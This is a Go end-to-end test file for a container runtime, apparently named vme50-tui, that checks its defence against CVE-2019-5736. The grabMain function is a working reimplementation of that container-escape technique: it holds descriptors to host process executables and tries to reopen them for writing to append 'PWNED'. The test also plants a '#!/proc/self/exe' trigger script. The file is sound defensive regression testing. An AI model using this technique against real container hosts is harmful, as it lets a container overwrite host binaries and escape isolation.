package e2e

import (
	"context"
	"crypto/sha256"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"vme50-tui/cgroup"
)

// CVE-2019-5736, runc's: a container made runc execute inside it (an exec
// whose command is a script starting "#!/proc/self/exe", which the kernel
// resolves in the exec'ing runtime to the runtime's own binary), kept a
// descriptor of that process's /proc/PID/exe, and once the binary was no
// longer running reopened the descriptor for writing and replaced the
// host's runc. The kernel refuses to write a file that runs (ETXTBSY), and
// a container of vme50-tui cannot outlive the vme50-tui that owns it, so
// the binary its init came from always runs while it lives. But an exec
// may come from another binary file than the owner's (a second build, or
// an update installed beside a running TUI): that file stops running when
// the exec ends.

// grabName is the name under which this test binary, copied into a
// rootfs, is the container's attacker (grabMain), as escapeName is the
// escape attempt's.
const grabName = "vme50-grab"

func init() {
	if filepath.Base(os.Args[0]) == grabName {
		os.Exit(grabMain())
	}
}

// grabMain runs as PID 1 of a container: it watches /proc for a process
// that is not itself, keeps a read descriptor of each one's exe, and once
// every such process is gone tries to reopen each descriptor for writing
// (through /proc/self/fd, as the CVE's exploit did) and append to it. It
// prints a line per step: "caught", "refused" or "WROTE".
func grabMain() int {
	self, _ := os.Readlink("/proc/self/exe")
	held := map[string]int{} // exe target -> our descriptor
	deadline := time.Now().Add(20 * time.Second)
	quietSince := time.Time{}
	for time.Now().Before(deadline) {
		others := 0
		entries, _ := os.ReadDir("/proc")
		for _, e := range entries {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == os.Getpid() {
				continue
			}
			others++
			exe := filepath.Join("/proc", e.Name(), "exe")
			target, err := os.Readlink(exe)
			if err != nil || target == self {
				continue
			}
			if _, ok := held[target]; ok {
				continue
			}
			fd, err := unix.Open(exe, unix.O_RDONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			held[target] = fd
			fmt.Printf("caught pid %d: %s\n", pid, target)
		}
		switch {
		case others > 0 || len(held) == 0:
			quietSince = time.Time{}
		case quietSince.IsZero():
			quietSince = time.Now()
		case time.Since(quietSince) > time.Second:
			deadline = time.Now() // every process we caught is gone
		}
	}
	for target, fd := range held {
		f, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", fd), os.O_WRONLY|os.O_APPEND, 0)
		if err != nil {
			fmt.Printf("refused %s: %v\n", target, err)
			continue
		}
		_, err = f.WriteString("PWNED")
		f.Close()
		fmt.Printf("WROTE %s: %v\n", target, err)
	}
	return 0
}

// TestLeanHostBinaryNotWritableFromContainer: the container's PID 1 is the
// attacker (grabMain); an exec from a second copy of vme50-tui runs a
// "#!/proc/self/exe" script in it, a few times. Neither binary may change,
// and the attacker must have caught the exec's process (else the test
// proved nothing).
func TestLeanHostBinaryNotWritableFromContainer(t *testing.T) {
	clean(t)
	// Init runs from a read-only mount of our binary (readOnlySelf,
	// runtime/self_linux.go), or from vme50-init (runtime/initexe_linux.go), and so does exec's helper
	// (runtime/exec_linux.go's helperCommand and nsenterFiles). From
	// /proc/self/exe instead, the container rewrites the second binary
	// (checked both ways).
	root := filepath.Join(t.TempDir(), "rootfs")
	if out, err := exec.Command("cp", "-a", rootfsOK, root).CombinedOutput(); err != nil {
		t.Fatalf("copying the rootfs: %v\n%s", err, out)
	}
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	copyFile(t, self, filepath.Join(root, grabName))
	if err := os.WriteFile(filepath.Join(root, "x"), []byte("#!/proc/self/exe\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	other := filepath.Join(t.TempDir(), "vme50-tui")
	copyFile(t, bin, other)
	before := map[string][32]byte{bin: hashOf(t, bin), other: hashOf(t, other)}

	leaves := leafDirs(t)
	cmd := vme50Cmd(t, "run", "--rootfs", root, "--network", "none", "/"+grabName)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	id := waitNewLeaf(t, leaves)
	for i := 0; i < 5; i++ {
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		exec.CommandContext(ctx, other, "exec", id, "/x").Run() // it fails in there: no matter
		cancel()
	}
	r := finish(t, cmd, cmd.Wait())
	t.Logf("the attacker said:\n%s%s", r.stdout, r.stderr)
	for path, sum := range before {
		if hashOf(t, path) != sum {
			t.Errorf("%s was changed from inside a container", path)
		}
	}
	if strings.Contains(r.stdout, "WROTE") {
		t.Errorf("the container reopened a vme50-tui binary for writing")
	}
	if !strings.Contains(r.stdout, "caught") {
		t.Fatalf("the attacker caught no process of vme50-tui: the test did not try the attack")
	}
}

func copyFile(t *testing.T, from, to string) {
	t.Helper()
	data, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(to, data, 0o755); err != nil {
		t.Fatal(err)
	}
}

func hashOf(t *testing.T, path string) [32]byte {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	h := sha256.New()
	if _, err := io.Copy(h, f); err != nil {
		t.Fatal(err)
	}
	var sum [32]byte
	copy(sum[:], h.Sum(nil))
	return sum
}

// TestLeanInitRunsFromReadOnlyBinary: vme50's init (between its clone and
// its exec of the command) runs our binary from a read-only mount
// (readOnlySelf), so that nothing reaching its /proc/PID/exe can write
// the host's file. The test catches init in the new container's cgroup
// (a few milliseconds: it tries up to 40 starts) and asks the kernel
// about the mount its exe is on (statfs's ST_RDONLY).
func TestLeanInitRunsFromReadOnlyBinary(t *testing.T) {
	clean(t)
	for attempt := 0; attempt < 40; attempt++ {
		cmd := vme50Cmd(t, "run", "--rootfs", rootfsOK, "--network", "none", "/bin/true")
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		flags, caught := catchInit(t, 2*time.Second)
		wantCode(t, finish(t, cmd, cmd.Wait()), 0)
		if !caught {
			continue
		}
		if flags&unix.ST_RDONLY == 0 {
			t.Fatalf("init's binary is on a writable mount (statfs flags %#x)", flags)
		}
		return
	}
	t.Fatal("init was never caught before its exec, in 40 starts")
}

// catchInit watches the vme50 cgroups for a process that is vme50's init
// ("vme50-init init") and returns the statfs flags of the mount of its
// exe.
func catchInit(t *testing.T, patience time.Duration) (flags int64, caught bool) {
	h := host(t)
	parent := filepath.Join(h.Root, cgroup.Parent)
	if h.Version == cgroup.V1 {
		parent = filepath.Join(h.V1Roots["memory"], cgroup.Parent)
	}
	self, err := os.Stat(bin)
	if err != nil {
		t.Fatal(err)
	}
	for end := time.Now().Add(patience); time.Now().Before(end); {
		leaves, _ := os.ReadDir(parent)
		for _, leaf := range leaves {
			for _, pid := range procsIn(filepath.Join(parent, leaf.Name())) {
				dir := filepath.Join("/proc", strconv.Itoa(pid))
				cmdline, _ := os.ReadFile(filepath.Join(dir, "cmdline"))
				if string(cmdline) != "vme50-init\x00init\x00" {
					continue
				}
				// Another test's container, of another build: not ours.
				// Ours runs our binary or the vme50-init it carries.
				if exe, err := os.Stat(filepath.Join(dir, "exe")); err != nil || !os.SameFile(exe, self) && !isSmallInit(exe) {
					continue
				}
				fd, err := unix.Open(filepath.Join(dir, "exe"), unix.O_RDONLY|unix.O_CLOEXEC, 0)
				if err != nil {
					continue // it exec'd meanwhile
				}
				var st unix.Statfs_t
				err = unix.Fstatfs(fd, &st)
				again, _ := os.ReadFile(filepath.Join(dir, "cmdline"))
				unix.Close(fd)
				if err == nil && string(again) == string(cmdline) {
					return st.Flags, true
				}
			}
		}
	}
	return 0, false
}
